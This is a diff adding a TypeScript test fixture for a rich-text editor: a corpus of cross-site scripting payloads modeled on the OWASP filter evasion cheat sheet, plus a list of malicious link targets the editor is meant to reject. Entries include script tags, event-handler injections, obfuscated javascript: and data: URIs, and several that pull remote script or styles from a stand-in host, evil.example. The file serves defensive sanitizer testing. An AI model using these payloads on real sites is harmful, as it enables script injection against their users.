@@ -1,0 +1,132 @@
+/**
+ * A shared corpus of hostile inputs for the rich-text editor, in the style of the OWASP XSS
+ * filter evasion cheat sheet. Plain data only: used by the unit tests (lib/editor/xss.test.ts)
+ * and meant for the end-to-end tests too.
+ *
+ * No entry of XSS_STRINGS starts or ends with whitespace, so that a document holding one as
+ * text gives it back unchanged (documentText trims the document as a whole).
+ */
+
+/** Payloads to type or paste as text: each must come back as inert, escaped text. */
+export const XSS_STRINGS: string[] = [
+  // Script tags, in many casings and shapes.
+  "<script>alert(1)</script>",
+  "<SCRIPT>alert(1)</SCRIPT>",
+  "<ScRiPt>alert(1)</sCrIpT>",
+  "<script src=https://evil.example/x.js></script>",
+  "<SCRIPT SRC=//evil.example/.j></SCRIPT>",
+  "<script>alert(String.fromCharCode(88,83,83))</script>",
+  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  '<script/xss src="https://evil.example/xss.js"></script>',
+  "</script><script>alert(1)</script>",
+  "<xss onafterscriptexecute=alert(1)><script>1</script>",
+  // Breaking out of attributes and string literals.
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  "'-alert(1)-'",
+  '";alert(1);//',
+  '\\"><img src=x onerror=alert(1)>',
+  "</p><script>alert(1)</script><p>",
+  "</span><img src=x onerror=alert(1)>",
+  // Images and event handlers.
+  "<img src=x onerror=alert(1)>",
+  "<img/src/onerror=alert(1)>",
+  '<img src="x" onerror="&#97;lert(1)">',
+  "<IMG SRC=\"javascript:alert('XSS');\">",
+  "<IMG SRC=javascript:alert('XSS')>",
+  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
+  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+  "<input autofocus onfocus=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  '<video><source onerror="alert(1)"></video>',
+  "<isindex type=image src=1 onerror=alert(1)>",
+  // SVG, frames, body.
+  "<svg onload=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "<body onload=alert(1)>",
+  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+  '<object data="javascript:alert(1)">',
+  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  // Links and forms.
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="&#x6A;avascript:alert(1)">click</a>',
+  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
+  '<span class="mention" data-user-id="x" onclick="alert(1)">@admin</span>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<base href="javascript:alert(1)//">',
+  "&#x6A;avascript:alert(1)",
+  "javascript:alert(1)",
+  // Styles.
+  '<div style="width: expression(alert(1));">x</div>',
+  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
+  '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
+  "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  // Parser confusion (mutation XSS), comments, CDATA, templates.
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<template><script>alert(1)</script></template>",
+  "<!--<img src=x onerror=alert(1)>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  // Markdown-ish and template-ish syntax.
+  "[x](javascript:alert(1))",
+  "![x](javascript:alert(1))",
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)}",
+  // Null bytes, pre-encoded and look-alike characters.
+  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
+  "<img src=x\u0000onerror=alert(1)>",
+  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+];
+
+/** Link targets that must never be accepted nor rendered as a link. */
+export const XSS_HREFS: string[] = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "JAVASCRIPT:alert(1)",
+  " javascript:alert(1)",
+  "javascript:alert(1) ",
+  "\tjavascript:alert(1)",
+  "java\tscript:alert(1)",
+  "java\nscript:alert(1)",
+  "java\u0000script:alert(1)",
+  "\u0001javascript:alert(1)",
+  "javascript:alert(1)//https://ok.example",
+  "javascript&colon;alert(1)",
+  "&#x6A;avascript:alert(1)",
+  "&#106;avascript:alert(1)",
+  "jav&#x09;ascript:alert(1)",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "data:text/html,<script>alert(1)</script>",
+  "vbscript:msgbox(1)",
+  "VBScript:msgbox(1)",
+  "file:///etc/passwd",
+  "blob:https://evil.example/0b6bd3b1-4d7f-4e38-9f6a-2b5a0c8f6d1e",
+  "ftp://evil.example/x",
+  "//evil.example",
+  "/relative/path",
+  "../../admin",
+  "?next=javascript:alert(1)",
+  "#javascript:alert(1)",
+  "evil.example/path",
+  "",
+];
